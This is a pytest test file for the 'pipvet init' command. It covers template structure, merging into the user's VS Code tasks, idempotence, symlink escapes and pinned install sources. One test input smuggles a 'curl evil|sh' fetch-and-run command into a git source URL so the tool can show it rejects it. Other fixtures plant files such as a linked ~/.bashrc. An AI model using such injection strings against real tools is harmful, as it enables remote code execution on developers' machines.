"""``pipvet init``: templates parse, merges keep the user's text, runs are idempotent."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
import yaml

from pipvet import __version__
from pipvet.cli import Output, main
from pipvet.errors import EnvironmentProblem, InputError, PipError, UsageError
from pipvet.policy import Policy, load_policy, parse_policy
from pipvet.project.guard import user_guard_set
from pipvet.project.init import InitOptions, apply_init, plan_init
from pipvet.project.jsonc import JsoncError, parse_jsonc
from pipvet.project.pipvet_source import default_source, parse_pipvet_source
from pipvet.project.templates import (
    TASK_LABEL,
    WORKFLOW_PATH,
    daily_cron,
    devcontainer_json,
    github_workflow,
    inspect_workflow,
    policy_text,
    task_fingerprint,
    vscode_task,
    workflow_fingerprint,
)
from pipvet.project.vscode import inspect_tasks, merge_task
from pipvet.system.process import Runner, SubprocessRunner

TODAY = date(2026, 1, 1)
PY = "${workspaceFolder}/.venv/bin/python"
PY_WIN = "${workspaceFolder}\\.venv\\Scripts\\python.exe"


def clean_environ(tmp_path: Path) -> dict[str, str]:
    """No active environment, a fake home: init must not see the developer's machine."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    return {"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"), "PATH": "/usr/bin:/bin"}


def options(
    project: Path,
    environ: dict[str, str],
    *,
    guard_pip: bool = False,
    devcontainer: bool = False,
    force: bool = False,
    venv: bool = True,
    vscode: bool = True,
    ci: bool = True,
) -> InitOptions:
    return InitOptions(
        project=project,
        python=Path(sys.executable),
        environ=environ,
        guard_pip=guard_pip,
        devcontainer=devcontainer,
        force=force,
        venv=venv,
        vscode=vscode,
        ci=ci,
    )


def files_in(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())


# ---------------------------------------------------------------------------- templates


def test_workflow_yaml_structure() -> None:
    text = github_workflow("3.12", daily_cron("demo"))
    data = yaml.safe_load(text)
    triggers = data.get("on", data.get(True))  # YAML 1.1 reads a bare `on` as true
    assert set(triggers) == {"push", "pull_request", "schedule", "workflow_dispatch"}
    (schedule,) = triggers["schedule"]
    assert re.fullmatch(r"\d{1,2} \d{1,2} \* \* \*", schedule["cron"])
    assert data["permissions"] == {"contents": "read", "security-events": "write"}
    steps = data["jobs"]["pipvet"]["steps"]
    uses = [s.get("uses", "") for s in steps]
    assert any(u.startswith("actions/setup-python@") for u in uses)
    assert steps[0]["with"]["persist-credentials"] is False
    assert next(s for s in steps if "setup-python" in s.get("uses", ""))["with"] == {
        "python-version": "3.12"
    }
    runs = [s.get("run", "") for s in steps]
    assert f"python -m pip install pipvet=={__version__}" in runs
    assert not any("--upgrade pipvet" in r for r in runs)
    assert "pipvet update --ci --sarif pipvet.sarif" in runs
    upload = next(s for s in steps if "upload-sarif" in s.get("uses", ""))
    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
    assert upload["with"]["sarif_file"] == "pipvet.sarif"
    assert upload["if"].startswith("always()")
    assert "60 days" in text
    assert "GITHUB_STEP_SUMMARY" in text


def test_workflow_fingerprint_detects_edits() -> None:
    text = github_workflow("3.12", "0 3 * * *")
    recorded, actual = workflow_fingerprint(text)
    assert recorded is not None
    assert recorded == actual
    edited = text.replace("ubuntu-latest", "macos-latest")
    recorded, actual = workflow_fingerprint(edited)
    assert recorded != actual
    assert workflow_fingerprint("name: mine\n")[0] is None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (github_workflow("3.12", "1 2 * * *"), (True, False, True, True)),
        (
            github_workflow("3.12", "1 2 * * *").replace("timeout-minutes: 30", "timeout: 5"),
            (True, True, True, True),
        ),
        (
            "on:\n  push:\njobs:\n  a:\n    steps:\n      - run: pipvet audit\n",
            (False, False, False, True),
        ),
        (
            "on:\n  schedule:\n    # nightly\n    - cron: '0 0 * * *'\njobs: {}\n# pipvet update\n",
            (False, False, True, False),
        ),
    ],
)
def test_inspect_workflow(text: str, expected: tuple[bool, bool, bool, bool]) -> None:
    found = inspect_workflow(text)
    assert (found.managed, found.modified, found.has_schedule, found.runs_pipvet) == expected


def test_daily_cron_is_stable_and_differs_by_project() -> None:
    assert daily_cron("alpha") == daily_cron("alpha")
    assert len({daily_cron(name) for name in ("alpha", "beta", "gamma", "delta")}) > 1


def test_devcontainer_uses_update_content_command() -> None:
    data = parse_jsonc(devcontainer_json("demo", "3.12")).value
    assert "pipvet update" in data["updateContentCommand"]
    assert "postCreateCommand" not in data
    assert data["image"].endswith(":3.12")


def test_vscode_task_from_path_names_no_machine_path() -> None:
    task = vscode_task()
    assert (task["command"], task["args"]) == ("pipvet", ["update"])
    assert task["options"] == {"cwd": "${workspaceFolder}"}
    assert "windows" not in task
    assert task["detail"].endswith("pipvet-managed sha256:" + task_fingerprint(task))


def test_vscode_task_shape_and_fingerprint() -> None:
    task = vscode_task(PY, PY_WIN)
    assert task["type"] == "process"
    assert task["command"] == PY
    assert task["args"] == ["-m", "pipvet", "update"]
    assert task["runOptions"] == {"runOn": "folderOpen"}
    assert task["windows"] == {"command": PY_WIN}
    assert task["detail"].endswith("pipvet-managed sha256:" + task_fingerprint(task))
    changed = {**task, "args": ["-m", "pipvet", "update", "--yes"]}
    assert task_fingerprint(changed) != task_fingerprint(task)


@pytest.mark.parametrize("in_pyproject", [True, False])
def test_policy_template_parses_back_to_the_defaults(tmp_path: Path, in_pyproject: bool) -> None:
    name = "pyproject.toml" if in_pyproject else "pipvet.toml"
    (tmp_path / name).write_text(policy_text(in_pyproject=in_pyproject))
    policy = load_policy(tmp_path, today=TODAY)
    assert policy.source == tmp_path / name
    assert policy == Policy(source=tmp_path / name)


@pytest.mark.parametrize("in_pyproject", [True, False])
def test_every_commented_policy_key_is_valid(tmp_path: Path, in_pyproject: bool) -> None:
    """Uncommenting the documented keys must give a valid policy: no typos in the template."""
    import tomllib

    text = policy_text(in_pyproject=in_pyproject)
    uncommented = re.sub(r"(?m)^# (\[\[[a-z.]+\]\]|[a-z-]+ = .*)$", r"\1", text)
    assert uncommented.count("\n# ") < text.count("\n# ")
    data = tomllib.loads(uncommented)
    table = data["tool"]["pipvet"] if in_pyproject else data
    assert "osv-url" in table
    assert "ignore" in table
    policy = parse_policy(table, tmp_path / "p.toml", in_pyproject=in_pyproject, today=TODAY)
    assert policy.internal == ("acme-*",)


# ---------------------------------------------------------------------------- tasks.json

USER_TASKS = """{
\t// See https://go.microsoft.com/fwlink/?LinkId=733558
\t"version": "2.0.0",
\t"tasks": [
\t\t{
\t\t\t"label": "build", // my build
\t\t\t"type": "shell",
\t\t\t"command": "make",
\t\t\t/* runs when the folder opens */
\t\t\t"runOptions": {"runOn": "folderOpen"},
\t\t},
\t\t{"label": "test", "type": "shell", "command": "pytest"},
\t],
}
"""


def test_merge_keeps_comments_and_other_tasks_byte_for_byte() -> None:
    task = vscode_task(PY, PY_WIN)
    result = merge_task(USER_TASKS, task)
    assert result.action == "add"
    assert result.text is not None
    # the user's text is all still there, in order; pipvet's task is added after the last one
    last = '\t\t{"label": "test", "type": "shell", "command": "pytest"}'
    head, tail = result.text.split(last)
    assert USER_TASKS.startswith(head + last)
    assert tail.endswith(",\n\t],\n}\n")
    tasks = parse_jsonc(result.text).value["tasks"]
    assert [t["label"] for t in tasks] == ["build", "test", TASK_LABEL]
    assert tasks[2] == task
    inspection = inspect_tasks(result.text)
    assert inspection.pipvet == "ok"
    assert inspection.folder_open == ("build",)
    # idempotent
    again = merge_task(result.text, task)
    assert (again.action, again.text) == ("unchanged", None)


def test_merge_respects_a_changed_task_unless_forced() -> None:
    task = vscode_task(PY, PY_WIN)
    text = merge_task(None, task).text
    assert text is not None
    edited = text.replace('"update"', '"update",\n                "--no-audit"')
    assert inspect_tasks(edited).pipvet == "modified"
    assert TASK_LABEL in inspect_tasks(edited).folder_open
    skipped = merge_task(edited, task)
    assert skipped.action == "skip"
    assert "changed since pipvet wrote it" in skipped.reason
    forced = merge_task(edited, task, force=True)
    assert forced.action == "update"
    assert forced.text is not None
    assert parse_jsonc(forced.text).value["tasks"] == [task]


def test_merge_updates_its_own_unchanged_task_when_the_template_changes() -> None:
    old_task = vscode_task("${workspaceFolder}/venv/bin/python")
    text = merge_task(USER_TASKS, old_task).text
    assert text is not None
    new_task = vscode_task(PY, PY_WIN)
    result = merge_task(text, new_task)
    assert result.action == "update"
    assert result.text is not None
    assert [t.get("label") for t in parse_jsonc(result.text).value["tasks"]] == [
        "build",
        "test",
        TASK_LABEL,
    ]
    assert parse_jsonc(result.text).value["tasks"][2] == new_task


def test_merge_leaves_a_foreign_task_with_pipvets_label() -> None:
    text = json.dumps({"version": "2.0.0", "tasks": [{"label": TASK_LABEL, "command": "x"}]})
    result = merge_task(text, vscode_task(PY))
    assert result.action == "skip"
    assert "pipvet did not write" in result.reason
    assert inspect_tasks(text).pipvet == "foreign"


@pytest.mark.parametrize(
    ("text", "labels"),
    [
        ("{}", [TASK_LABEL]),
        ('{"version": "2.0.0"}', [TASK_LABEL]),
        ('{"version": "2.0.0", "tasks": []}', [TASK_LABEL]),
        ('{\r\n  "tasks": [\r\n    {"label": "a"}\r\n  ]\r\n}\r\n', ["a", TASK_LABEL]),
    ],
)
def test_merge_into_minimal_files(text: str, labels: list[str]) -> None:
    result = merge_task(text, vscode_task(PY))
    assert result.text is not None
    assert [t["label"] for t in parse_jsonc(result.text).value["tasks"]] == labels
    if "\r\n" in text:
        assert "\n" not in result.text.replace("\r\n", "")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('{"tasks": [ {"label": "a",, } ]}', "line 1, column 27"),
        ('{"tasks": {"label": "a"}}', '"tasks" is not a list'),
        ("[]", "top level is not an object"),
        ('{\n  "tasks": [\n    /* unterminated\n', "unterminated /* comment"),
    ],
)
def test_merge_refuses_what_it_cannot_read(text: str, reason: str) -> None:
    result = merge_task(text, vscode_task(PY), force=True)
    assert result.action == "skip"
    assert result.text is None
    assert reason in result.reason


def test_jsonc_errors_name_line_and_column() -> None:
    with pytest.raises(JsoncError, match=r"line 3, column 5: expected ',' or \}"):
        parse_jsonc('{\n  "a": 1\n    "b": 2\n}')


# ---------------------------------------------------------------------------- planning and applying


def test_fresh_project_end_to_end_and_idempotent(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "demo"\nversion = "1"\n')
    env = clean_environ(tmp_path)
    plan = plan_init(options(project, env, venv=False, devcontainer=True))
    assert {f.display: f.action for f in plan.files} == {
        "pyproject.toml": "append",
        ".vscode/tasks.json": "create",
        ".github/workflows/pipvet.yml": "create",
        ".devcontainer/devcontainer.json": "create",
        ".gitignore": "create",
    }
    result = apply_init(plan, SubprocessRunner())
    assert set(result.written) == {f.display for f in plan.files}
    assert files_in(project) == [
        ".devcontainer/devcontainer.json",
        ".github/workflows/pipvet.yml",
        ".gitignore",
        ".vscode/tasks.json",
        "pyproject.toml",
    ]
    policy = load_policy(project, today=TODAY)
    assert policy.source == project / "pyproject.toml"
    assert policy.cooldown_days == 3
    assert (project / ".gitignore").read_text() == ".venv/\n"
    assert oct((project / ".gitignore").stat().st_mode & 0o777) != "0o600"
    tasks = parse_jsonc((project / ".vscode" / "tasks.json").read_text()).value["tasks"]
    # no environment with pipvet in it: the task runs pipvet from PATH, and a note says so
    assert (tasks[0]["command"], tasks[0]["args"]) == ("pipvet", ["update"])
    assert any("pipx install pipvet==" in note for note in plan.notes)
    again = plan_init(options(project, env, venv=False, devcontainer=True))
    assert again.nothing_to_do
    assert {f.action for f in again.files} == {"unchanged"}
    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    assert apply_init(again, SubprocessRunner()).written == ()
    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file()} == before


def test_dry_run_writes_nothing_and_shows_every_diff(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".gitignore").write_text("__pycache__/")
    code, out, _ = run_cli(["init", "--project", str(project), "--dry-run", "--no-venv"])
    assert code == 0
    assert files_in(project) == [".gitignore"]
    assert "--- /dev/null\n+++ b/pipvet.toml\n" in out
    assert "+++ b/.vscode/tasks.json\n" in out
    assert "+++ b/.github/workflows/pipvet.yml\n" in out
    assert "--- a/.gitignore\n+++ b/.gitignore\n" in out
    assert "-__pycache__/\n\\ No newline at end of file\n+__pycache__/\n+.venv/\n" in out
    assert "Dry run: nothing was written." in out


def test_existing_user_files_are_kept_unless_forced(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    workflow = project / ".github" / "workflows" / "pipvet.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("name: my own pipvet job\n")
    (project / "pipvet.toml").write_text('fail-on = "high"\n')
    (project / ".gitignore").write_text("build/\r\n.venv\r\n")
    env = clean_environ(tmp_path)
    plan = plan_init(options(project, env, venv=False))
    actions = {f.display: (f.action, f.reason) for f in plan.files}
    assert actions["pipvet.toml"] == ("unchanged", "the project has a policy")
    assert actions[".github/workflows/pipvet.yml"] == (
        "skip",
        "not written by pipvet; --force replaces it",
    )
    assert actions[".gitignore"][0] == "unchanged"
    apply_init(plan, SubprocessRunner())
    assert workflow.read_text() == "name: my own pipvet job\n"
    forced = plan_init(options(project, env, venv=False, force=True))
    apply_init(forced, SubprocessRunner())
    assert workflow_fingerprint(workflow.read_text())[0] is not None
    assert (project / "pipvet.toml").read_text() == 'fail-on = "high"\n'  # policy always kept


def test_nothing_is_written_through_a_link_out_of_the_project(tmp_path: Path) -> None:
    """A checkout's .vscode linked to the user's editor settings and .gitignore linked to
    ~/.bashrc: init wrote a folder-open task into the user's settings and copied .bashrc
    into the project."""
    env = clean_environ(tmp_path)
    home = Path(env["HOME"])
    (home / ".config" / "Code" / "User").mkdir(parents=True)
    (home / ".bashrc").write_text("export TOKEN=PLANTED\n")
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".vscode").symlink_to(home / ".config" / "Code" / "User")
    (project / ".gitignore").symlink_to(home / ".bashrc")
    with pytest.raises(InputError) as caught:
        plan_init(options(project, env, venv=False))
    problems = "\n".join(caught.value.problems)
    assert f".vscode/tasks.json leads to {home / '.config/Code/User/tasks.json'}" in problems
    assert f".gitignore leads to {home / '.bashrc'}" in problems
    assert "PLANTED" not in str(caught.value) + problems
    assert list((home / ".config" / "Code" / "User").iterdir()) == []
    # A policy linked to a team's shared file is left as it is, and init goes on.
    (project / ".vscode").unlink()
    (project / ".gitignore").unlink()
    shared = tmp_path / "team" / "pipvet.toml"
    shared.parent.mkdir()
    shared.write_text('fail-on = "high"\n')
    (project / "pipvet.toml").symlink_to(shared)
    apply_init(plan_init(options(project, env, venv=False)), SubprocessRunner())
    assert (project / ".vscode" / "tasks.json").is_file()


def test_pipvets_own_workflow_is_updated_while_unchanged(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    workflow = project / ".github" / "workflows" / "pipvet.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text(github_workflow("3.8", "0 0 * * *"))
    plan = plan_init(options(project, clean_environ(tmp_path), venv=False))
    change = next(f for f in plan.files if f.display.endswith("pipvet.yml"))
    assert (change.action, change.reason) == ("update", "pipvet's file, updated")


def test_gitignore_append_keeps_line_endings(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / ".gitignore").write_bytes(b"build/\r\ndist/")
    apply_init(plan_init(options(project, clean_environ(tmp_path), venv=False)), SubprocessRunner())
    assert (project / ".gitignore").read_bytes() == b"build/\r\ndist/\r\n.venv/\r\n"


def test_invalid_pyproject_is_skipped_with_the_reason(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text("[project\nname = 1\n")
    plan = plan_init(options(project, clean_environ(tmp_path), venv=False))
    change = plan.files[0]
    assert change.action == "skip"
    assert "not valid TOML" in change.reason
    assert plan.bad_inputs == (
        f"{project / 'pyproject.toml'}: not valid TOML (Expected ']' at the end of a table "
        "declaration (at line 1, column 9)); the policy was not added",
    )


@pytest.mark.slow
def test_creates_a_real_venv_once(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    env = clean_environ(tmp_path)
    plan = plan_init(options(project, env, vscode=False, ci=False))
    assert plan.venv.action == "create"
    result = apply_init(plan, SubprocessRunner())
    assert result.venv_created
    assert (project / ".venv" / "pyvenv.cfg").is_file()
    proc = subprocess.run(
        [str(project / ".venv" / "bin" / "python"), "-c", "import sys; print(sys.prefix)"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert Path(proc.stdout.strip()) == (project / ".venv").absolute()
    again = plan_init(options(project, env, vscode=False, ci=False))
    assert again.venv.action == "present"
    assert again.nothing_to_do


def test_active_environments_are_respected(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    conda = tmp_path / "conda"
    (conda / "conda-meta").mkdir(parents=True)
    (conda / "bin").mkdir()
    (conda / "bin" / "python").write_text("")
    env = {**clean_environ(tmp_path), "CONDA_PREFIX": str(conda)}
    plan = plan_init(options(project, env, guard_pip=True))
    assert plan.venv.action == "active"
    assert "conda environment is active" in plan.venv.description
    assert plan.guard is not None
    assert plan.guard.action == "skip"
    assert "would refuse to install into them" in plan.guard.description
    tasks = next(f for f in plan.files if f.display == ".vscode/tasks.json")
    assert tasks.new is not None
    # never the conda environment's absolute path: the file is meant to be committed
    assert parse_jsonc(tasks.new).value["tasks"][0]["command"] == "pipvet"
    assert str(tmp_path) not in tasks.new


def test_venv_creation_failure_stops_before_any_file(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    opts = InitOptions(
        project=project, python=tmp_path / "no-such-python", environ=clean_environ(tmp_path)
    )
    plan = plan_init(opts)
    with pytest.raises(EnvironmentProblem, match=r"creating \.venv failed: cannot run"):
        apply_init(plan, SubprocessRunner())
    assert files_in(project) == []


# ---------------------------------------------------------------------------- pip's guard


def scrubbed_runner(environ: dict[str, str]) -> Runner:
    """Run commands with the fake home and without the machine's PIP_* settings."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    env.update(environ)
    return SubprocessRunner(env=env, default_timeout=120)


@pytest.mark.slow
def test_guard_pip_writes_the_user_pip_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    marker = tmp_path / "ran"
    # run in the project, a checkout's pip.py would be imported by `python -m pip` without -I
    (project / "pip.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    monkeypatch.chdir(project)
    env = clean_environ(tmp_path)
    plan = plan_init(options(project, env, venv=False, vscode=False, ci=False, guard_pip=True))
    assert plan.guard is not None
    assert plan.guard.action == "set"
    assert plan.guard.command[1:] == (
        "-I",
        "-m",
        "pip",
        "config",
        "--user",
        "set",
        "global.require-virtualenv",
        "true",
    )
    result = apply_init(plan, runner=scrubbed_runner(env))
    assert result.guard_set
    assert not marker.exists()
    conf = Path(env["XDG_CONFIG_HOME"]) / "pip" / "pip.conf"
    assert re.search(r"(?m)^\[global\]\s*^require-virtualenv = true$", conf.read_text())
    assert user_guard_set(env) == conf
    again = plan_init(options(project, env, venv=False, vscode=False, ci=False, guard_pip=True))
    assert again.guard is not None
    assert again.guard.action == "already"
    assert again.nothing_to_do


@pytest.mark.slow
def test_guard_failure_is_reported(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    env = clean_environ(tmp_path)
    plan = plan_init(options(project, env, venv=False, vscode=False, ci=False, guard_pip=True))
    # pip refuses to write its config when PIP_CONFIG_FILE is os.devnull
    failing = scrubbed_runner({**env, "PIP_CONFIG_FILE": os.devnull})
    with pytest.raises(PipError, match="pip config failed") as info:
        apply_init(plan, failing)
    assert info.value.hint is not None
    assert "pip config --user set global.require-virtualenv true" in info.value.hint


# ---------------------------------------------------------------------------- the command


def run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(argv, Output(stdout=out, stderr=err))
    return code, out.getvalue(), err.getvalue()


def test_command_reports_written_then_nothing(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    code, out, err = run_cli(["init", "--project", str(project), "--no-venv", "--no-ci"])
    assert code == 0, err
    assert "created       pipvet.toml" in out
    assert "created       .vscode/tasks.json" in out
    assert "Wrote 3 files." in out
    code, out, _ = run_cli(
        ["init", "--project", str(project), "--no-venv", "--no-ci", "--format", "json"]
    )
    assert code == 0
    data = json.loads(out)
    assert data["nothing_to_do"] is True
    assert data["written"] == []
    assert {f["action"] for f in data["files"]} == {"unchanged"}


def test_command_missing_project_is_an_error(tmp_path: Path) -> None:
    code, out, err = run_cli(["init", "--project", str(tmp_path / "nope"), "--dry-run"])
    assert code == 2
    assert out == ""
    assert "project folder" in err
    assert "does not exist" in err


def test_command_says_what_it_skipped_and_never_that_all_is_in_place(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    workflow = project / ".github" / "workflows" / "pipvet.yml"
    workflow.parent.mkdir(parents=True)
    workflow.write_text("name: my own pipvet job\n")
    code, out, err = run_cli(["init", "--project", str(project), "--no-venv"])
    assert code == 0, err
    assert "Wrote 3 files. Skipped 1 file:\n" in out
    assert "  - .github/workflows/pipvet.yml: not written by pipvet; --force replaces it" in out
    code, out, err = run_cli(["init", "--project", str(project), "--no-venv"])
    assert code == 0, err
    assert "Everything is in place" not in out
    assert "Nothing was written. Skipped 1 file:\n" in out
    code, out, _ = run_cli(["init", "--project", str(project), "--no-venv", "--format", "json"])
    assert json.loads(out)["skipped"] == [
        {"path": ".github/workflows/pipvet.yml", "reason": "not written by pipvet; --force "
         "replaces it"}
    ]  # fmt: skip
    assert workflow.read_text() == "name: my own pipvet job\n"


@pytest.mark.parametrize(
    ("rel", "text", "where"),
    [
        ("pyproject.toml", "[project\nname = 1\n", "not valid TOML"),
        (".vscode/tasks.json", '{\n  "tasks": [\n    {"label": "a",, }\n  ]\n}\n', "line 3"),
    ],
)
def test_command_fails_on_a_file_it_cannot_parse(
    tmp_path: Path, rel: str, text: str, where: str
) -> None:
    project = tmp_path / "proj"
    (project / rel).parent.mkdir(parents=True)
    (project / rel).write_text(text)
    code, out, err = run_cli(["init", "--project", str(project), "--no-venv", "--no-ci"])
    assert code == 2
    assert f"pipvet: error: {project / rel}: not valid" in err
    assert where in err
    assert "hint: fix the file at that line and run pipvet init again" in err
    assert f"Skipped 1 file:\n  - {rel}: " in out
    assert "Wrote 2 files." in out
    assert (project / rel).read_text() == text  # never rewritten


# ------------------------------------------------------------------ where pipvet comes from

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def test_generated_files_install_the_exact_pipvet_that_wrote_them() -> None:
    """No file installs an unpinned "pipvet": whoever registers the name would run code in
    every CI job (with security-events: write) and every devcontainer."""
    workflow = github_workflow("3.12", "0 3 * * *")
    container = devcontainer_json("demo", "3.12")
    for text in (workflow, container):
        installs = re.findall(r"pip install ([^\n&\"]+)", text)
        assert [i.strip() for i in installs if "pipvet" in i] == [f"pipvet=={__version__}"]
        assert "To upgrade, install the" in text
        assert "`pipvet init` again" in text
    assert "pip install --upgrade pip &&" in container  # pip itself may float


def test_a_named_source_replaces_the_index_and_keeps_the_fingerprint(tmp_path: Path) -> None:
    source = parse_pipvet_source(f"git+https://github.com/acme/pipvet@{COMMIT}", tmp_path)
    workflow = github_workflow("3.12", "0 3 * * *", source)
    steps = yaml.safe_load(workflow)["jobs"]["pipvet"]["steps"]
    assert f"python -m pip install git+https://github.com/acme/pipvet@{COMMIT}" in [
        s.get("run") for s in steps
    ]
    assert "pipvet==" not in workflow
    recorded, actual = workflow_fingerprint(workflow)
    assert recorded == actual
    container = devcontainer_json("demo", "3.12", source)
    recorded, actual = workflow_fingerprint(container)
    assert recorded == actual
    edited = workflow_fingerprint(container.replace(f"@{COMMIT} &&", "@" + "f" * 40 + " &&"))
    assert edited[0] == recorded
    assert edited[1] != recorded


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("git+https://github.com/acme/pipvet", "names no commit"),
        ("git+https://github.com/acme/pipvet@main", "full 40-character commit SHA"),
        ("git+https://github.com/acme/pipvet@0123456", "full 40-character commit SHA"),
        (f"git+https://tok:x@github.com/acme/pipvet@{COMMIT}", "user name or token"),
        (f"git+http://github.com/acme/pipvet@{COMMIT}", "only git+https"),
        (f"git+https://github.com/a/b@{COMMIT};curl evil|sh", "full 40-character"),
        ("https://example.com/pipvet.whl", "not a git+https URL or a wheel path"),
        ("dist/missing.whl", "no such file"),
        ("README.md", "not a wheel"),
        ("../outside.whl", "outside the project"),
        ("dist/we ird;x.whl", "unsafe in a shell"),
    ],
)
def test_pipvet_source_is_checked(tmp_path: Path, text: str, message: str) -> None:
    project = tmp_path / "proj"
    (project / "dist").mkdir(parents=True)
    (project / "README.md").write_text("hi")
    (project / "dist" / "we ird;x.whl").write_bytes(b"PK")
    (tmp_path / "outside.whl").write_bytes(b"PK")
    with pytest.raises(UsageError, match=re.escape(message)):
        parse_pipvet_source(text, project)


def test_a_wheel_in_the_project_is_named_relative_to_it(tmp_path: Path) -> None:
    wheel = tmp_path / "dist" / "pipvet-0.1.0-py3-none-any.whl"
    wheel.parent.mkdir()
    wheel.write_bytes(b"PK")
    for given in (str(wheel), "dist/pipvet-0.1.0-py3-none-any.whl"):
        source = parse_pipvet_source(given, tmp_path)
        assert source.requirement == "./dist/pipvet-0.1.0-py3-none-any.whl"
        assert "To upgrade, add the newer wheel" in source.upgrade


def test_command_refuses_a_moving_source_and_writes_nothing(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    argv = ["init", "--project", str(project), "--no-venv", "--pipvet-source"]
    code, out, err = run_cli([*argv, "git+https://github.com/acme/pipvet@main"])
    assert code == 2
    assert out == ""
    assert "Traceback" not in err
    assert "pipvet: error: --pipvet-source 'git+https://github.com/acme/pipvet@main'" in err
    assert files_in(project) == []
    code, out, err = run_cli([*argv, f"git+https://github.com/acme/pipvet@{COMMIT}"])
    assert code == 0, err
    workflow = (project / ".github" / "workflows" / "pipvet.yml").read_text()
    assert f"pip install git+https://github.com/acme/pipvet@{COMMIT}\n" in workflow


def test_upgrading_pipvet_rewrites_its_unchanged_files_but_not_edited_ones(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    env = clean_environ(tmp_path)
    apply_init(plan_init(options(project, env, venv=False, devcontainer=True)), SubprocessRunner())
    newer = default_source("9.9.9")
    container = project / ".devcontainer" / "devcontainer.json"
    container.write_text(container.read_text().replace("ms-python.python", "evil.ext"))
    opts = InitOptions(
        project=project, python=Path(sys.executable), environ=env, venv=False,
        devcontainer=True, pipvet_source=newer,
    )  # fmt: skip
    plan = plan_init(opts)
    actions = {f.display: f.action for f in plan.files}
    assert actions[".github/workflows/pipvet.yml"] == "update"
    assert actions[".devcontainer/devcontainer.json"] == "skip"
    apply_init(plan, SubprocessRunner())
    assert "pip install pipvet==9.9.9\n" in (project / WORKFLOW_PATH).read_text()
    assert "evil.ext" in container.read_text()


def test_the_task_uses_the_project_environment_only_when_pipvet_is_in_it(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    site = project / ".venv" / "lib" / "python3.12" / "site-packages"
    site.mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (project / ".venv" / "bin").mkdir()
    (project / ".venv" / "bin" / "python").symlink_to(sys.executable)
    env = clean_environ(tmp_path)
    tasks = next(f for f in plan_init(options(project, env)).files if "tasks" in f.display)
    assert tasks.new is not None
    assert parse_jsonc(tasks.new).value["tasks"][0]["command"] == "pipvet"
    (site / f"pipvet-{__version__}.dist-info").mkdir()
    plan = plan_init(options(project, env))
    tasks = next(f for f in plan.files if "tasks" in f.display)
    assert tasks.new is not None
    task = parse_jsonc(tasks.new).value["tasks"][0]
    assert (task["command"], task["args"]) == (PY, ["-m", "pipvet", "update"])
    assert task["windows"] == {"command": PY_WIN}
    assert not any("pipx install" in note for note in plan.notes)
